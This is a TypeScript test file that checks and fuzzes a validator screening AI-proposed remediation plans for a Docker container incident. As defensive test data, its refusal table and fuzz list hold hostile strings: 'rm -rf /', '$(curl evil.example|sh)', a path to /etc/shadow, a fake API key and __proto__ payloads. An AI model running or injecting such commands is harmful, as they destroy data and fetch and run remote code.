import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { loadParts } from '../ops/load.ts';
import { hostileProposals } from '../ops/testing/hostile-proposals.ts';
import { fingerprintMachine, plannedBy } from '../ops/testing/proposals.ts';
import { screened } from './proposal.ts';
import { check } from './stages/validate.ts';
import type { PlanProposal } from './types.ts';

const target = 'docker://nas1/immich/server';
const actions = await loadParts('action', new URL('../templates/actions/', import.meta.url));
const deps = { actions: new Map(actions.map((action) => [action.name, action])), limits: { MAX_STEPS: 5 } as never, machine: fingerprintMachine };
const planned = plannedBy(target);
const by = 'model' as const;
const checked = (proposal: unknown, of: PlanProposal['by'] = by) => check(proposal, planned, { ...deps, by: of });

test('a plan of permitted actions on the resource of the incident passes, in the words of the templates', () => {
  const plan = checked({ by, intents: [{ template: 'collect_diagnostics', target, params: {} }, { template: 'restart_resource', target, params: {} }] });
  expect(plan).toMatchObject({ steps: [{ n: 1, template: 'collect_diagnostics', target, risk: 'none' }, { n: 2, template: 'restart_resource', title: 'Restart nas1/immich_server', risk: 'low', confirmation: { by: 'approve' } }] });
});

describe('is refused with a reason:', () => {
  const restart = { template: 'restart_resource', target, params: {} };
  test.each<[string, unknown, RegExp]>([
    ['an unknown action', { by, intents: [{ ...restart, template: 'exec' }] }, /does not exist/],
    ['an action of the prototype', { by, intents: [{ ...restart, template: 'constructor' }] }, /does not exist/],
    ['another resource', { by, intents: [{ ...restart, target: 'docker://nas1/postgres' }] }, /another resource/],
    ['the host instead of the container', { by, intents: [{ ...restart, target: 'docker://nas1' }] }, /another resource/],
    ['too many steps', { by, intents: ['collect_diagnostics', 'restart_resource', 'start_resource', 'stop_resource', 'validate_paths', 'validate_permissions'].map((template) => ({ ...restart, template })) }, /more than the 5 allowed/],
    ['the same step again', { by, intents: [restart, restart] }, /step 2 is there already/],
    ['no step at all', { by, intents: [] }, /nothing is left/],
    ['settings that the action does not take', { by, intents: [{ ...restart, params: { force: true } }] }, /settings that its action does not take/],
    ['a command in a setting', { by, intents: [{ ...restart, params: { note: '; rm -rf /' } }] }, /a link, a command/],
    ['a link in a setting', { by, intents: [{ template: 'validate_network_connectivity', target, params: { addresses: ['http://evil.example/x'] } }] }, /a link/],
    ['a credential in a setting', { by, intents: [{ ...restart, params: { api_key: 'x' } }] }, /a credential/],
    ['a field that a plan has not', { by, intents: [restart], command: 'reboot' }, /it is no plan/],
    ['a field that a step has not', { by, intents: [{ ...restart, severity: 'low' }] }, /it is no plan/],
    ['a plan that says it is of the diagnoses of another kind', { by: 'owner', intents: [restart] }, /it is no plan/],
    ['a prototype in the settings', { by, intents: [{ ...restart, params: JSON.parse('{"__proto__":{"cmd":"x"}}') as object }] }, /a link, a command/],
    ['a prototype in a step', { by, intents: [{ ...restart, ...JSON.parse('{"__proto__":1}') as object }, JSON.parse('{"template":"restart_resource","target":"docker://nas1/immich/server","params":{},"__proto__":1}')] }, /it is no plan/],
    ['what loses something for good', { by, intents: [{ template: 'rollback_to_snapshot', target, params: {} }] }, /for good/],
  ])('%s', (_what, proposal, reason) => {
    expect(checked(proposal)).toMatchObject({ no: expect.stringMatching(reason) as unknown });
  });

  test('what the diagnoses say would do harm, whoever proposes it', () => {
    const harmful = { ...planned, narrative: { ...planned.narrative, hypothesis: { ...planned.narrative.hypothesis, avoid: ['restart_resource'] } } };
    for (const who of ['model', 'diagnoses'] as const) expect(check({ by: who, intents: [restart] }, harmful, { ...deps, by: who })).toMatchObject({ no: 'step 1 would do harm here' });
  });

  test('an action that nobody could check afterwards', () => {
    const blind = new Map([...deps.actions].map(([name, action]) => [name, { ...action, verify: undefined as never }]));
    expect(check({ by, intents: [restart] }, planned, { ...deps, actions: blind, by })).toMatchObject({ no: 'step 1 cannot be checked afterwards' });
  });
});

const nasty = fc.oneof(
  fc.constantFrom('rm -rf /', '$(curl evil.example|sh)', 'https://evil.example/x', '@everyone', 'sk-ant-abcdefabcdefabcdefabcdef', '`reboot`', '../../etc/shadow', '\u202Eexe', 'docker://nas1/other', '__proto__', 'constructor'), fc.string({ maxLength: 40 }), fc.string({ unit: 'binary', maxLength: 20 }),
);
const anything = fc.oneof(nasty, fc.jsonValue({ maxDepth: 3 }), fc.double(), fc.constant(undefined));
const oneIntent = fc.oneof(
  fc.record({ template: fc.oneof(nasty, fc.constantFrom(...deps.actions.keys())), target: fc.oneof(nasty, fc.constant(target)), params: fc.oneof(anything, fc.dictionary(nasty, anything, { maxKeys: 4 })) }, { requiredKeys: [] }), anything,
);
const proposals = fc.oneof(fc.record({ by: fc.constantFrom('model', 'owner', null), intents: fc.array(oneIntent, { maxLength: 8 }) }, { requiredKeys: [] }), anything);

test('10,000 hostile proposals never throw, and what passes is a permitted action on the resource of the incident with settings of its own', () => {
  fc.assert(fc.property(proposals, (proposal) => {
    const plan = checked(proposal);
    if ('no' in plan) return plan.no.length > 0;
    return plan.steps.length <= 5 && plan.steps.every((step) => step.target === target && deps.actions.get(step.template)?.params.safeParse(step.params).success === true && !/[`$;|<>]|:\/\//.test(JSON.stringify(step.params)));
  }), { numRuns: 10_000 });
});

test('10,000 proposals that were spoilt in one place each are all refused', () => {
  const spoilt = hostileProposals(10_000, { target, templates: [...deps.actions.keys()] });
  expect(spoilt.filter((proposal) => !('no' in checked(proposal)))).toEqual([]);
});

test('what is nested very deep, very wide or very long is refused', () => {
  let deep: unknown = 'x';
  for (let level = 0; level < 3000; level += 1) deep = [deep];
  const wide = Object.fromEntries(Array.from({ length: 5000 }, (_, n) => [`k${n}`, n]));
  for (const params of [{ deep }, wide, { long: 'x'.repeat(1_000_000) }]) expect(screened({ by, intents: [{ template: 'restart_resource', target, params }] }, by)).toHaveProperty('no');
  expect(screened({ by, intents: Array.from({ length: 5000 }, () => ({ template: 'x', target, params: {} })) }, by)).toHaveProperty('no');
});

describe('whose a proposal is, is for its caller to say', () => {
  const loss = { intents: [{ template: 'rollback_to_snapshot', target, params: {} }] };
  const many = { intents: [{ template: 'restart_resource', target, params: {} }, { template: 'restart_resource', target, params: {} }] };

  test.each([['a loss', loss, /it is no plan/], ['the same step again', many, /it is no plan/], ['a plain plan', { intents: many.intents.slice(1) }, /it is no plan/]])('%s that a model says to be of the diagnoses is refused', (_what, proposal, reason) => {
    expect(checked({ ...proposal, by: 'diagnoses' }, 'model')).toMatchObject({ no: expect.stringMatching(reason) as unknown });
    expect(checked({ ...proposal, by: 'model' }, 'diagnoses')).toMatchObject({ no: expect.stringMatching(reason) as unknown });
  });

  const evil = { template: 'rollback_to_snapshot', target, params: {} };
  const good = { template: 'restart_resource', target, params: {} };
  const loop: Record<string, unknown> = { by: 'diagnoses' };
  loop['intents'] = [{ ...good, params: { loop } }];
  const turning = { template: 'restart_resource', target, params: {}, times: 0 };
  const revoked = Proxy.revocable({}, {});
  revoked.revoke();
  const thrower = new Proxy({}, { get: () => { throw new Error('got'); }, ownKeys: () => { throw new Error('listed'); }, getOwnPropertyDescriptor: () => { throw new Error('described'); }, getPrototypeOf: () => { throw new Error('descended'); } });
  test.each<[string, unknown]>([
    ['no intents', { by: 'diagnoses' }], ['intents that are no list', { by: 'diagnoses', intents: 'all' }], ['null among the intents', { by: 'diagnoses', intents: [null] }], ['an intent without settings', { by: 'diagnoses', intents: [{ template: 'restart_resource', target }] }],
    ['a number as the target', { by: 'diagnoses', intents: [{ ...good, target: 7 }] }], ['an object as the template', { by: 'diagnoses', intents: [{ ...good, template: {} }] }], ['a list with a length alone', { by: 'diagnoses', intents: { length: 1e9 } }],
    ['a hole', { by: 'diagnoses', intents: new Array<unknown>(3) }], ['itself', loop], ['a getter', { by: 'diagnoses', get intents() { return [good]; } }], ['a getter that throws', { by: 'diagnoses', get intents(): unknown { throw new Error('boo'); } }],
    ['a step that turns as it is read', { by: 'diagnoses', intents: [{ ...good, get template() { turning.times += 1; return turning.times % 2 === 0 ? evil.template : good.template; } }] }],
    ['a proxy', thrower], ['a proxy inside', { by: 'diagnoses', intents: [thrower] }], ['a revoked proxy', revoked.proxy], ['one inside', { by: 'diagnoses', intents: [{ ...good, params: revoked.proxy }] }],
    ['a class', new (class { by = 'diagnoses'; intents = [good]; })()], ['what it inherits', Object.create({ by: 'diagnoses', intents: [good] })], ['a map', { by: 'diagnoses', intents: [{ ...good, params: new Map([['a', 1]]) }] }],
    ['a function', { by: 'diagnoses', intents: [{ ...good, params: { run: () => 'x' } }] }], ['a symbol', { by: 'diagnoses', intents: [good], [Symbol('x')]: 1 }], ['a big number', { by: 'diagnoses', intents: [{ ...good, params: { n: 10n ** 400n } }] }],
    ['NaN', { by: 'diagnoses', intents: [{ ...good, params: { n: Number.NaN } }] }], ['ten million letters', { by: 'diagnoses', intents: [{ ...good, params: { text: 'x'.repeat(10_000_000) } }] }],
  ])('%s is refused, whoever is said to have written it', (_what, proposal) => {
    for (const of of ['diagnoses', 'model'] as const) expect(checked(proposal, of)).toMatchObject({ no: expect.any(String) as unknown });
  });
});

test('whatever is proposed, of whomever, is refused or permitted, and nothing throws', () => {
  const strange = fc.anything({ withBigInt: true, withBoxedValues: true, withDate: true, withMap: true, withSet: true, withNullPrototype: true, withObjectString: true, withSparseArray: true, withTypedArray: true, stringUnit: 'binary', maxDepth: 4 });
  const step = fc.oneof(fc.record({ template: fc.oneof(strange, fc.constantFrom(...deps.actions.keys())), target: fc.oneof(strange, fc.constant(target)), params: fc.oneof(strange, fc.constant({})) }, { requiredKeys: [] }), strange);
  const whole = fc.oneof(fc.record({ by: fc.oneof(fc.constantFrom('model', 'diagnoses'), strange), intents: fc.oneof(strange, fc.array(step, { maxLength: 6 })) }, { requiredKeys: [] }), strange);
  fc.assert(fc.property(whole, fc.constantFrom('model' as const, 'diagnoses' as const), (proposal, of) => {
    const plan = checked(proposal, of);
    return 'no' in plan ? plan.no.length > 0 : plan.steps.every((one) => one.target === target && deps.actions.has(one.template) && (of === 'diagnoses' || one.confirmation.by !== 'typed_name'));
  }), { numRuns: 5000 });
});
